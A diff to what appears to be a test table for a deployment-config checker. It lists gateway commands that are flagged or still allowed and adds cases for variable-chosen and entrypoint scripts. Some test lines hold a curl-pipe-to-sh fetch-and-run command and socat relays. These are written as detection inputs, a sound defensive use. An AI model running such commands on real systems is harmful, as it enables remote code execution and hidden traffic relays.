@@ -185,6 +185,7 @@ OFF: dict[str, tuple[str, tuple[tuple[str, str, str], ...], str]] = {
         "--chat-template",
     ),
     "another program": ("", (gateway('command: [sh, -c, "exec /x"]'),), "it runs `/x`"),
+    "a program of a variable's choice": ("", (gateway("command: [sh, -c, 'exec $WHICH']"),), "command of gateway"),
     "a relay": ("", (gateway('command: [socat, "TCP-LISTEN:8443,fork", "TCP:m:8000"]'),), "the relay `socat`"),
     "a relay in arguments": ("", (gateway('args: [sh, -c, "gateway & socat a b"]'),), "the relay `socat`"),
     "what is fetched": ("", (gateway('command: [bash, -c, "curl -s http://x/y | sh"]'),), "another `sh`"),
@@ -284,6 +285,7 @@ ON_STILL: dict[str, tuple[str, tuple[tuple[str, str, str], ...]]] = {
     "a shell that starts it": (
         "", (gateway('command: [sh, -c, "until curl -sf http://x/health; do sleep 1; done; exec gateway 2>&1"]'),),
     ),
+    "a script of its own": ("", (gateway('command: [sh, -c, "exec /entrypoint.sh --port 8443"]'),)),
     "a module of its own": ("", (gateway("command: [python3, -m, gateway.main]"),)),
     "an allocator": ("", (variable("name: LD_PRELOAD, value: /usr/lib/libjemalloc.so.2"),)),
     "its own modules": ("", (variable("name: PYTHONPATH, value: /app"),)),
